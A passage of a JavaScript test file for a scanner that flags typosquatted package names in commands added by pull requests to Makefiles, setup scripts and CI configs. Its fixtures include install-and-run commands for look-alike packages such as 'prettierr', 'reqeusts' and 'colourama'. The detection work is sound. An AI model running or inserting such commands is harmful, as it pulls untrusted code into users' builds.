    scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) })).filter((f) => f.id === 'typosquat').map((f) => `${f.severity} ${f.package} ${f.path}:${f.line}`);
  it('reports a look-alike package an added command installs or runs by name, as in a workflow run: script', () => {
    expect(squats('Makefile', [], ['lint:', '\tnpx -y prettierr --check .', '\tpython3 -m pip install -q reqeusts'])).toEqual(['high prettierr Makefile:3', 'high reqeusts Makefile:4']);
    expect(squats('scripts/setup.sh', [], ['go install github.com/boltdb-go/bolt/cmd/bolt@latest'])).toEqual(['high github.com/boltdb-go/bolt scripts/setup.sh:2']);
    expect(squats('.gitlab-ci.yml', [], ['    - pip install colourama'])).toEqual(['high colourama .gitlab-ci.yml:2']);
  });
  it('leaves the popular names themselves, and a command the PR only moves, alone', () => {
    expect(squats('Makefile', [], ['\tnpx -y prettier@3 --check .', '\tpython3 -m pip install -q requests mkdocs-material', '\tgo install golang.org/x/tools/cmd/goimports@v0.24.0'])).toEqual([]);
    expect(squats('Makefile', ['\tnpx -y prettierr --check .'], ['\tnpx  -y prettierr --check .'])).toEqual([]);
  });
});
